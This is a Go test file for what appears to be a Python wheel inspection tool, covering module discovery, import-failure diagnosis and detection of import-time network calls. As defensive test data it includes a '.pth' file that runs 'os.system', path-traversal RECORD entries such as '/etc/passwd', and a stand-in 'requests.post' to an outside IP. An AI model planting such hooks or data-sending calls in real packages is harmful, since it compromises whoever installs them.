package tasks

import (
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
	"github.com/pyti/pyti/internal/report"
)

func TestFindModules(t *testing.T) {
	for _, tc := range []struct {
		name     string
		files    []string
		topLevel []string
		content  map[string]string
		want     Layout
	}{
		{
			name:  "package and its submodules; its test files told apart",
			files: []string{"demo/__init__.py", "demo/core.py", "demo/sub/__init__.py", "demo/sub/x.py", "demo/tests/test_a.py", "demo/test_b.py", "demo/__main__.py", "demo/data.json", "demo-1.0.dist-info/METADATA", "demo-1.0.dist-info/RECORD"},
			want:  Layout{Modules: []string{"demo"}, Submodules: []string{"demo.core", "demo.sub", "demo.sub.x"}, Tests: []string{"demo/test_b.py", "demo/tests/test_a.py"}},
		},
		{
			name:  "single module and extension modules",
			files: []string{"six.py", "_speedups.cpython-311-x86_64-linux-gnu.so", "_old.abi3.so", "six-1.0.dist-info/RECORD"},
			want:  Layout{Modules: []string{"_old", "_speedups", "six"}},
		},
		{
			// msgpack falls back to its pure-Python code when _cmsgpack does not import; a plain
			// .so inside a package may be a library loaded with ctypes (llvmlite's).
			name: "extension modules inside packages",
			files: []string{"msgpack/__init__.py", "msgpack/fallback.py", "msgpack/_cmsgpack.cpython-311-x86_64-linux-gnu.so",
				"msgpack/sub/_fast.abi3.so", "msgpack/sub/__init__.py", "msgpack/lib/libhelper.so", "msgpack/tests/_t.cpython-311-x86_64-linux-gnu.so",
				"zope/__init__.py", "zope/interface/__init__.py", "zope/interface/_zope_interface_coptimizations.cpython-311-x86_64-linux-gnu.so"},
			content: map[string]string{"zope/__init__.py": "__import__('pkg_resources').declare_namespace(__name__)\n"},
			want: Layout{Modules: []string{"msgpack", "zope.interface"},
				Extensions: []string{"msgpack._cmsgpack", "msgpack.sub._fast", "zope.interface._zope_interface_coptimizations"},
				Submodules: []string{"msgpack.fallback", "msgpack.sub"}},
		},
		{
			name:     "PEP 420 namespace package",
			files:    []string{"jaraco/functools/__init__.py", "jaraco/functools/__init__.pyi", "jaraco/functools/py.typed", "jaraco.functools-4.0.dist-info/top_level.txt"},
			topLevel: []string{"jaraco"},
			want:     Layout{Modules: []string{"jaraco.functools"}},
		},
		{
			name:    "pkg_resources-style namespace package",
			files:   []string{"zope/__init__.py", "zope/interface/__init__.py", "zope/interface/ro.py", "zope.interface-1-nspkg.pth"},
			content: map[string]string{"zope/__init__.py": "__import__('pkg_resources').declare_namespace(__name__)\n", "zope.interface-1-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5)\n"},
			want:    Layout{Modules: []string{"zope.interface"}, Submodules: []string{"zope.interface.ro"}, Pth: []string{"zope.interface-1-nspkg.pth"}},
		},
		{
			name:    "pkgutil-style namespace package with a module portion",
			files:   []string{"ns/__init__.py", "ns/part.py"},
			content: map[string]string{"ns/__init__.py": "from pkgutil import extend_path\n__path__ = extend_path(__path__, __name__)\n"},
			want:    Layout{Modules: []string{"ns.part"}},
		},
		{
			name:    "a package that only mentions declare_namespace is a package",
			files:   []string{"pkg_resources/__init__.py", "pkg_resources/_vendor/__init__.py", "pkg_resources/extern/__init__.py"},
			content: map[string]string{"pkg_resources/__init__.py": "import sys\n" + strings.Repeat("x = 1\n", 20) + "def declare_namespace(packageName):\n    pass\n__import__('pkg_resources').declare_namespace(__name__)\n"},
			want:    Layout{Modules: []string{"pkg_resources"}, Submodules: []string{"pkg_resources._vendor", "pkg_resources.extern"}},
		},
		{
			name:  "not importable by name",
			files: []string{"my-pkg/__init__.py", "my-pkg/evil.py", "my-mod.py", "odd dir/run.py", "odd dir/sub/x.py"},
			want:  Layout{ByLocation: []string{"my-mod.py", "my-pkg/", "odd dir/run.py"}},
		},
		{
			name:    "a .pth file adds a directory",
			files:   []string{"src/hidden/__init__.py", "demo.pth"},
			content: map[string]string{"demo.pth": "src\n"},
			want:    Layout{Modules: []string{"hidden"}},
		},
		{
			name:  "purelib data and odd RECORD paths",
			files: []string{"demo-1.0.data/purelib/demo.py", "demo-1.0.data/scripts/run", "../../bin/tool", "/etc/passwd", "demo/__pycache__/x.cpython-311.pyc"},
			want:  Layout{Modules: []string{"demo"}},
		},
		{
			name:  "data only",
			files: []string{"share/readme.txt", "demo-1.0.dist-info/RECORD"},
			want:  Layout{Why: "the wheel installs no Python module or extension into site-packages (only share/readme.txt)"},
		},
		{
			name:    "only a .pth with import lines",
			files:   []string{"evil.pth", "demo-1.0.dist-info/RECORD"},
			content: map[string]string{"evil.pth": "import os; os.system('id')\n"},
			want:    Layout{Pth: []string{"evil.pth"}, Why: "the wheel ships no module, only .pth files (evil.pth), which run at every interpreter start"},
		},
		{
			name:     "top_level.txt names a module RECORD does not list",
			files:    []string{"demo-1.0.dist-info/RECORD", "other.py", "hidden.py"},
			topLevel: []string{"hidden", "missing", "not-an-identifier"},
			want:     Layout{Modules: []string{"hidden", "other"}},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			read := func(p string) []byte {
				if c, ok := tc.content[p]; ok {
					return []byte(c)
				}
				return nil
			}
			got := findModules(tc.files, tc.topLevel, read)
			if diff := cmp.Diff(tc.want, got, cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("layout (-want +got):\n%s", diff)
			}
		})
	}
}

func TestRecordPaths(t *testing.T) {
	data := []byte("demo/__init__.py,sha256=abc,10\n\"odd,name.py\",sha256=def,3\ndemo-1.0.dist-info/RECORD,,\n")
	want := []string{"demo/__init__.py", "odd,name.py", "demo-1.0.dist-info/RECORD"}
	if diff := cmp.Diff(want, recordPaths(data)); diff != "" {
		t.Errorf("paths (-want +got):\n%s", diff)
	}
}

func TestJudgeImport(t *testing.T) {
	ok := func(name, how string) report.Module { return report.Module{Name: name, OK: true, How: how} }
	// The package's Requires-Dist: flup for its extra alone, six for every install.
	requires := []string{`flup; extra == "Flup"`, "six>=1.4.0"}
	for _, tc := range []struct {
		name   string
		layout Layout
		mods   []report.Module
		want   importOutcome
	}{
		{"all imported", Layout{Modules: []string{"a", "b"}}, []report.Module{ok("a", "name"), ok("b", "name")}, importOutcome{}},
		{
			"undeclared dependency, ran with stand-ins", Layout{Modules: []string{"a"}},
			[]report.Module{{Name: "a", How: "name", Error: "Traceback\nModuleNotFoundError: No module named 'requests'", Missing: "requests",
				StandInPass: &report.StandInPass{OK: true, StandIns: []string{"requests", "requests.adapters"}}}},
			importOutcome{failed: "1 of 1 modules do not import: a needs requests, which is not installed (an undeclared dependency?); with stand-ins for requests, requests.adapters its import ran to the end"},
		},
		{
			"a dependency's undeclared dependency (Debian's urllib3 imports six), which stand-ins do not replace", Layout{Modules: []string{"requests"}},
			[]report.Module{{Name: "requests", How: "name", Missing: "six",
				Error: "  File \"/work/venv/lib/python3.11/site-packages/requests/__init__.py\", line 43, in <module>\n    import urllib3\n" +
					"  File \"/work/venv/lib/python3.11/site-packages/urllib3/exceptions.py\", line 3, in <module>\n    from six.moves.http_client import IncompleteRead\nModuleNotFoundError: No module named 'six'",
				StandInPass: &report.StandInPass{Error: "ModuleNotFoundError: No module named 'six'"}}},
			importOutcome{failed: "1 of 1 modules do not import: requests imports urllib3, which needs six, which is not installed (a dependency urllib3 does not declare?); no import of its own code was missing, so stand-ins could not help"},
		},
		{
			"a portion of the same namespace that lacks its dependency (zope.size 5.0 beside Debian's zope.i18nmessageid, which imports six)", Layout{Modules: []string{"zope.size"}},
			[]report.Module{{Name: "zope.size", How: "name", Missing: "six",
				Error: "  File \"/work/venv/lib/python3.11/site-packages/zope/size/__init__.py\", line 18, in <module>\n    from zope.i18nmessageid import MessageFactory\n" +
					"  File \"/work/venv/lib/python3.11/site-packages/zope/i18nmessageid/__init__.py\", line 16, in <module>\n    from .message import Message\n" +
					"  File \"/work/venv/lib/python3.11/site-packages/zope/i18nmessageid/message.py\", line 17, in <module>\n    import six\nModuleNotFoundError: No module named 'six'",
				StandInPass: &report.StandInPass{Error: "ModuleNotFoundError: No module named 'six'"}}},
			importOutcome{failed: "1 of 1 modules do not import: zope.size imports zope.i18nmessageid, which needs six, which is not installed (a dependency zope.i18nmessageid does not declare?); no import of its own code was missing, so stand-ins could not help"},
		},
		{
			"its own module's import fails inside the package", Layout{Modules: []string{"zope.size"}},
			[]report.Module{{Name: "zope.size", How: "name", Missing: "six",
				Error: "  File \"/work/venv/lib/python3.11/site-packages/zope/size/__init__.py\", line 18, in <module>\n    import six\nModuleNotFoundError: No module named 'six'"}},
			importOutcome{failed: "1 of 1 modules do not import: zope.size needs six, which is not installed (an undeclared dependency?)"},
		},
		{
			"a failure by location or in the sweep does not fail the import", Layout{Modules: []string{"a"}, ByLocation: []string{"my-pkg/"}},
			[]report.Module{ok("a", "name"), {Name: "my-pkg/", How: "location", Error: "ValueError: x"}, {Name: "a", How: "sweep", TimedOut: true}},
			importOutcome{},
		},
		{
			"a module needing what only an extra declares, beside modules that import", Layout{Modules: []string{"paste.cgiapp", "paste.flup_session"}},
			[]report.Module{ok("paste.cgiapp", "name"), {Name: "paste.flup_session", How: "name", Missing: "flup", Error: "ModuleNotFoundError: No module named 'flup'"}},
			importOutcome{},
		},
		{
			"beside a module that fails on its own", Layout{Modules: []string{"paste.cgiapp", "paste.flup_session", "paste.transaction"}},
			[]report.Module{ok("paste.cgiapp", "name"), {Name: "paste.flup_session", How: "name", Missing: "flup", Error: "ModuleNotFoundError: No module named 'flup'"},
				{Name: "paste.transaction", How: "name", Error: "ModuleNotFoundError: No module named 'wsgilib'", Missing: "wsgilib"}},
			importOutcome{failed: "1 of 3 modules do not import: paste.transaction needs wsgilib, which is not installed (an undeclared dependency?) " +
				"(and, as expected without the package's extras: paste.flup_session needs flup, which only the package's extra `Flup` declares)"},
		},
		{
			"the only module needs what only an extra declares", Layout{Modules: []string{"a"}},
			[]report.Module{{Name: "a", How: "name", Missing: "flup", Error: "ModuleNotFoundError: No module named 'flup'"}},
			importOutcome{failed: "1 of 1 modules do not import: a needs flup, which only the package's extra `Flup` declares"},
		},
		{
			"endless import", Layout{Modules: []string{"slow", "b"}},
			[]report.Module{{Name: "slow", How: "name", TimedOut: true, Error: "TimeoutExpired: the import did not end within 120 seconds"}, ok("b", "name")},
			importOutcome{timeout: "import: importing slow did not end within 2m0s", failed: "1 of 2 modules do not import: slow: TimeoutExpired: the import did not end within 120 seconds"},
		},
		{
			"only code not importable by name", Layout{ByLocation: []string{"my-pkg/"}},
			[]report.Module{ok("my-pkg/", "location")},
			importOutcome{nothing: "no module is importable by name; PYTI imported by file location what a name cannot reach: my-pkg/ (imported)"},
		},
		{"nothing at all", Layout{Why: "the wheel installs no file into site-packages"}, nil, importOutcome{nothing: "the wheel installs no file into site-packages"}},
		{
			"an extension module inside the package that does not import", Layout{Modules: []string{"msgpack"}, Extensions: []string{"msgpack._cmsgpack"}},
			[]report.Module{ok("msgpack", "name"), {Name: "msgpack._cmsgpack", How: "extension",
				Error: "ImportError: /site/msgpack/_cmsgpack.cpython-311-x86_64-linux-gnu.so: undefined symbol: PyUnicode_AsUTF8"}},
			importOutcome{failed: "1 of 2 modules do not import: msgpack._cmsgpack: ImportError: /site/msgpack/_cmsgpack.cpython-311-x86_64-linux-gnu.so: undefined symbol: PyUnicode_AsUTF8"},
		},
		{
			"a shared library loaded with ctypes is no module", Layout{Modules: []string{"tool"}, Extensions: []string{"tool._native"}},
			[]report.Module{ok("tool", "name"), {Name: "tool._native", How: "extension",
				Error: "ImportError: dynamic module does not define module export function (PyInit__native)"}},
			importOutcome{},
		},
		{
			"an extension module built for another interpreter is none of this one's", Layout{Modules: []string{"tool"}, Extensions: []string{"tool._old"}},
			[]report.Module{ok("tool", "name"), {Name: "tool._old", How: "extension", Missing: "tool._old",
				Error: "ModuleNotFoundError: No module named 'tool._old'"}},
			importOutcome{},
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got := judgeImport(tc.layout, tc.mods, 120*time.Second, requires)
			if diff := cmp.Diff(tc.want, got, cmp.AllowUnexported(importOutcome{})); diff != "" {
				t.Errorf("outcome (-want +got):\n%s", diff)
			}
		})
	}
}

func TestImportRan(t *testing.T) {
	mods := []report.Module{
		{Name: "a", How: "name", OK: true},
		{Name: "b", How: "name", Missing: "requests", StandInPass: &report.StandInPass{OK: true, StandIns: []string{"requests", "requests.adapters"}}},
		{Name: "my-pkg/", How: "location", OK: true, StandIns: []string{"winreg"}},
		{Name: "a", How: "sweep", OK: true, Swept: 12},
		{Name: "c", How: "name", Skipped: "out of time"},
		{Name: "zope", How: "sweep", OK: true, Swept: 3, StandIns: []string{"zope.event", "zope.event.classhandler"},
			SweepFailed: []report.ModuleError{{Name: "zope.x.cmd", Error: "TypeError: '>' not supported"}}},
		{Name: "a._speedups", How: "extension", OK: true},
	}
	want := "import (2 by name, 1 extension module inside the packages, 1 by file location, 15 other modules swept, 1 that did not import) with stand-ins for modules not installed: requests, winreg, zope.event; .pth files at every interpreter start (x.pth)"
	if got := importRan(mods, []string{"x.pth"}); got != want {
		t.Errorf("importRan = %q, want %q", got, want)
	}
	if got := importRan(nil, nil); got != "" {
		t.Errorf("importRan(nothing) = %q", got)
	}
}

func TestStandInFindings(t *testing.T) {
	mods := []report.Module{
		{Name: "quiet", How: "name", StandInPass: &report.StandInPass{OK: true, StandInCalls: []string{"requests.Session()"}}},
		{Name: "loud", How: "name", StandInPass: &report.StandInPass{OK: true, StandInCalls: []string{"requests.post('https://203.0.113.9/c', data='x')", "requests.get.json()"}}},
	}
	got := standInFindings(mods)
	want := []report.Finding{{Source: "behavior", Phase: "import", RuleID: "import-url-via-missing-module", Severity: report.SeverityMedium,
		Title:   "Import-time call to a URL through a missing module",
		Message: "Importing loud called a module that is not installed with a URL (https://203.0.113.9/c); PYTI gave it a stand-in, so nothing was sent.",
		Count:   1, Evidence: []report.Evidence{{Kind: "stand-in-call", Detail: "requests.post('https://203.0.113.9/c', data='x')"}}}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}
